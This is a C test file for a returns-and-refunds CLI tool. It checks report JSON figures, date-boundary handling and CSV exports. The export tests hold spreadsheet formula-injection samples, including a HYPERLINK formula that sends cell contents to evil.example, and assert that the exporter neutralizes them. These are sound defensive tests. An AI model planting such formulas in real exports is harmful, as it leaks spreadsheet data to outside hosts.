/* test-cli-report.c — `retour-cli report` and the CSV exports of returns
 * and refunds, on the small shop of retour-test-report-shop.c.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include <json-glib/json-glib.h>

#include "retour-cli-run.h"
#include "retour-test-csv.h"
#include "retour-test-db.h"
#include "retour-test-report-shop.h"

static char *dir;
static char *path;

static JsonObject *
run_report_json (const char *first,
                 ...) G_GNUC_NULL_TERMINATED;

/* The JSON of `retour-cli report --json` with the options given. */
static JsonObject *
run_report_json (const char *first,
                 ...)
{
  g_autoptr(GPtrArray) args = g_ptr_array_new ();
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  g_auto(Run) run = { 0 };
  va_list ap;

  va_start (ap, first);
  for (const char *arg = first; arg != NULL; arg = va_arg (ap, const char *))
    g_ptr_array_add (args, (gpointer) arg);
  va_end (ap);

  /* run_cli takes its arguments as a list: up to six here. */
  g_assert_cmpuint (args->len, <=, 6);
  while (args->len < 7)
    g_ptr_array_add (args, NULL);
  run_cli (&run, "report", "--json", "--database", path, args->pdata[0], args->pdata[1], args->pdata[2],
           args->pdata[3], args->pdata[4], args->pdata[5], NULL);
  g_test_message ("%s", run.err);
  g_assert_cmpint (run.status, ==, 0);

  json_parser_load_from_data (parser, run.out, -1, &error);
  g_assert_no_error (error);

  return json_object_ref (json_node_get_object (json_parser_get_root (parser)));
}

static JsonObject *
money_of (JsonObject *figures,
          const char *currency)
{
  JsonArray *money = json_object_get_array_member (figures, "money");

  for (guint i = 0; i < json_array_get_length (money); i++)
    {
      JsonObject *entry = json_array_get_object_element (money, i);

      if (g_str_equal (json_object_get_string_member (entry, "currency"), currency))
        return entry;
    }

  g_assert_not_reached ();
}

static void
test_report_json (void)
{
  g_autoptr(JsonObject) root = run_report_json ("--from", "2026-11-01", "--to", "2026-11-30", NULL);
  JsonObject *period = json_object_get_object_member (root, "period");
  JsonObject *previous = json_object_get_object_member (root, "previous_period");
  JsonObject *eur = money_of (period, "EUR");
  JsonObject *pln = money_of (period, "PLN");
  JsonObject *lamp, *anna, *definitions;

  g_assert_cmpstr (json_object_get_string_member (root, "basis"), ==, "created");
  g_assert_cmpstr (json_object_get_string_member (period, "from"), ==, "2026-11-01");
  g_assert_cmpstr (json_object_get_string_member (period, "to"), ==, "2026-11-30");
  g_assert_cmpint (json_object_get_int_member (period, "orders"), ==, 4);
  g_assert_cmpint (json_object_get_int_member (period, "orders_returned"), ==, 5);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (period, "order_return_rate"), 1.25, 1e-9);
  g_assert_cmpint (json_object_get_int_member (period, "units_sold"), ==, 21);
  g_assert_cmpint (json_object_get_int_member (period, "units_returned"), ==, 16);
  g_assert_cmpint (json_object_get_int_member (period, "returns"), ==, 6);
  g_assert_cmpint (json_object_get_int_member (period, "returns_with_label"), ==, 1);
  g_assert_cmpint (json_object_get_int_member (period, "controllable_units"), ==, 7);
  g_assert_cmpint (json_object_get_int_member (period, "refund_median_seconds"), ==, 4 * 86400);
  g_assert_cmpint (json_object_get_int_member (period, "statutory_refunds"), ==, 2);
  g_assert_cmpint (json_object_get_int_member (period, "statutory_refunds_in_time"), ==, 1);

  /* Money as exact decimal strings, per currency. */
  g_assert_cmpstr (json_object_get_string_member (eur, "sales"), ==, "305.00");
  g_assert_cmpstr (json_object_get_string_member (eur, "returned_value"), ==, "280.00");
  g_assert_cmpstr (json_object_get_string_member (eur, "refunds"), ==, "166.10");
  g_assert_cmpstr (json_object_get_string_member (eur, "restocking_fees"), ==, "20.00");
  g_assert_cmpstr (json_object_get_string_member (eur, "return_shipping_charged"), ==, "13.90");
  g_assert_cmpstr (json_object_get_string_member (eur, "retained"), ==, "120.00");
  g_assert_cmpstr (json_object_get_string_member (pln, "sales"), ==, "80.00");
  g_assert_cmpstr (json_object_get_string_member (pln, "written_off"), ==, "40.00");
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (pln, "refunds_against_sales"), 0.5, 1e-9);

  g_assert_cmpint (json_object_get_int_member (previous, "orders"), ==, 1);
  g_assert_cmpint (json_object_get_int_member (previous, "returns"), ==, 0);
  g_assert_cmpfloat (json_object_get_double_member (previous, "order_return_rate"), ==, 0.0);
  /* Nothing to take a median of: null, not 0. */
  g_assert_true (JSON_NODE_HOLDS_NULL (json_object_get_member (previous, "refund_median_seconds")));

  lamp = json_array_get_object_element (json_object_get_array_member (root, "reason_clusters"), 0);
  g_assert_cmpstr (json_object_get_string_member (lamp, "sku"), ==, "LMP");
  g_assert_cmpint (json_array_get_length (json_object_get_array_member (root, "reason_clusters")), ==, 1);

  anna = json_array_get_object_element (json_object_get_array_member (root, "customers"), 0);
  g_assert_cmpstr (json_object_get_string_member (anna, "name"), ==, "Anna de Vries");
  g_assert_cmpstr (json_object_get_string_member (anna, "tier"), ==, "critical");
  g_assert_true (json_object_get_boolean_member (anna, "serial_returner"));

  definitions = json_object_get_object_member (root, "definitions");
  g_assert_true (json_object_has_member (definitions, "order-return-rate"));
  g_assert_true (json_object_has_member (definitions, "time-to-refund"));
}

static void
test_report_bases_and_days (void)
{
  g_autoptr(JsonObject) received = run_report_json ("--from", "2026-11-01", "--to", "2026-11-30",
                                                    "--basis", "received", NULL);
  g_autoptr(JsonObject) ordered = run_report_json ("--from", "2026-11-01", "--to", "2026-11-30",
                                                   "--basis", "ordered", NULL);
  g_autoptr(JsonObject) first_of_december = run_report_json ("--from", "2026-12-01", "--to", "2026-12-01", NULL);
  g_autoptr(JsonObject) last_of_november = run_report_json ("--from", "2026-11-30", "--to", "2026-11-30", NULL);
  JsonObject *period;

  period = json_object_get_object_member (received, "period");
  g_assert_cmpint (json_object_get_int_member (period, "returns"), ==, 3);
  period = json_object_get_object_member (ordered, "period");
  g_assert_cmpint (json_object_get_int_member (period, "returns"), ==, 5);

  /* O3 and R4 at midnight belong to 1 December; O2 at 23:30 and R3 at
   * 23:00 to 30 November. */
  period = json_object_get_object_member (first_of_december, "period");
  g_assert_cmpint (json_object_get_int_member (period, "orders"), ==, 1);
  g_assert_cmpint (json_object_get_int_member (period, "returns"), ==, 1);
  period = json_object_get_object_member (last_of_november, "period");
  g_assert_cmpint (json_object_get_int_member (period, "orders"), ==, 1);
  g_assert_cmpint (json_object_get_int_member (period, "returns"), ==, 1);
  g_assert_cmpint (json_object_get_int_member (period, "units_returned"), ==, 2);
}

static void
test_report_usage (void)
{
  g_auto(Run) basis = { 0 };
  g_auto(Run) half = { 0 };
  g_auto(Run) backwards = { 0 };
  g_auto(Run) text = { 0 };

  run_cli (&basis, "report", "--basis", "shipped", "--database", path, NULL);
  g_assert_cmpint (basis.status, ==, 2);
  run_cli (&half, "report", "--from", "2026-11-01", "--database", path, NULL);
  g_assert_cmpint (half.status, ==, 2);
  run_cli (&backwards, "report", "--from", "2026-11-30", "--to", "2026-11-01", "--database", path, NULL);
  g_assert_cmpint (backwards.status, ==, 2);

  run_cli (&text, "report", "--from", "2026-11-01", "--to", "2026-11-30", "--database", path, NULL);
  g_assert_cmpint (text.status, ==, 0);
  g_assert_nonnull (strstr (text.out, "From 2026-11-01 to 2026-11-30"));
  g_assert_nonnull (strstr (text.out, "125.0 %"));
}

static char *
export (const char *what)
{
  g_autofree char *csv_path = g_strdup_printf ("%s/%s.csv", dir, what);
  g_auto(Run) run = { 0 };
  g_autoptr(GError) error = NULL;
  char *csv = NULL;

  run_cli (&run, "export", what, "--output", csv_path, "--database", path, NULL);
  g_test_message ("%s%s", run.out, run.err);
  g_assert_cmpint (run.status, ==, 0);

  g_file_get_contents (csv_path, &csv, NULL, &error);
  g_assert_no_error (error);
  g_assert_true (g_utf8_validate (csv, -1, NULL));
  retour_test_csv_assert_no_formulas (csv);

  return csv;
}

static void
test_export_returns (void)
{
  g_autofree char *csv = export ("returns");
  g_autoptr(GPtrArray) rows = retour_test_csv_read (csv, ',');
  char **kubek = NULL;

  g_assert_true (g_str_has_prefix (csv, "rma_number,status,created,received,resolved,order_number,customer,"
                                        "country,sku,product,category,quantity,unit_price,currency,reason,"
                                        "claim,resolution,refund_method\r\n"));
  /* Every line of every return but the draft's. */
  g_assert_cmpuint (rows->len, ==, 1 + 9);
  for (guint i = 1; i < rows->len; i++)
    {
      char **cells = g_ptr_array_index (rows, i);

      g_assert_cmpuint (g_strv_length (cells), ==, 18);
      if (g_strcmp0 (cells[13], "PLN") == 0)
        kubek = cells;
    }

  g_assert_nonnull (kubek);
  g_assert_cmpstr (kubek[1], ==, "resolved");
  g_assert_cmpstr (kubek[2], ==, "2026-11-11T10:00:00+01:00");
  g_assert_cmpstr (kubek[3], ==, "2026-11-14T10:00:00+01:00");
  g_assert_cmpstr (kubek[5], ==, "O5");
  g_assert_cmpstr (kubek[6], ==, "Anna de Vries");
  g_assert_cmpstr (kubek[7], ==, "NL");
  g_assert_cmpstr (kubek[11], ==, "1");
  g_assert_cmpstr (kubek[12], ==, "40.00");

  /* The hostile titles are there, neutralized, in one cell each. */
  g_assert_nonnull (strstr (csv, ",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1;\"\"Lamp\"\")\","));
  g_assert_nonnull (strstr (csv, ",\"'@SUM(1+1);'-Lamp\","));
}

static void
test_export_refunds (void)
{
  g_autofree char *csv = export ("refunds");
  g_autoptr(GPtrArray) rows = retour_test_csv_read (csv, ',');
  char **first, **last;

  g_assert_true (g_str_has_prefix (csv, "date,rma_number,order_number,customer,amount,currency,method,source,"
                                        "external_id,actor,note\r\n"));
  g_assert_cmpuint (rows->len, ==, 1 + 3);

  /* Oldest first: R5's store credit on 4 November, R1, then R6. */
  first = g_ptr_array_index (rows, 1);
  g_assert_cmpstr (first[0], ==, "2026-11-04T10:00:00+01:00");
  g_assert_cmpstr (first[2], ==, "O4");
  g_assert_cmpstr (first[4], ==, "83.05");
  g_assert_cmpstr (first[5], ==, "EUR");
  g_assert_cmpstr (first[6], ==, "store-credit");
  last = g_ptr_array_index (rows, 3);
  g_assert_cmpstr (last[4], ==, "40.00");
  g_assert_cmpstr (last[5], ==, "PLN");

  /* The note breaks a line and holds formulas: still one cell, with
   * every part neutralized. */
  g_assert_nonnull (strstr (csv, ",\"Paid \"\"in full\"\"\n'+31 6 1234 5678;'=1+1\"\r\n"));
}

int
main (int   argc,
      char *argv[])
{
  g_autoptr(RetourDatabase) db = NULL;
  g_autoptr(GTimeZone) tz = NULL;
  int status;

  g_test_init (&argc, &argv, NULL);

  /* retour-cli counts days in the local time zone: the shop's. */
  g_setenv ("TZ", "Europe/Amsterdam", TRUE);
  tz = g_time_zone_new_identifier ("Europe/Amsterdam");
  db = retour_test_db_new ("retour-test-cli-report-XXXXXX", &dir, &path);
  retour_test_report_shop_fill (db, tz);
  g_clear_object (&db);

  g_test_add_func ("/cli-report/json", test_report_json);
  g_test_add_func ("/cli-report/bases-and-days", test_report_bases_and_days);
  g_test_add_func ("/cli-report/usage", test_report_usage);
  g_test_add_func ("/cli-report/export-returns", test_export_returns);
  g_test_add_func ("/cli-report/export-refunds", test_export_refunds);

  status = g_test_run ();
  retour_test_db_remove_dir (dir);
  g_free (path);
  g_free (dir);

  return status;
}
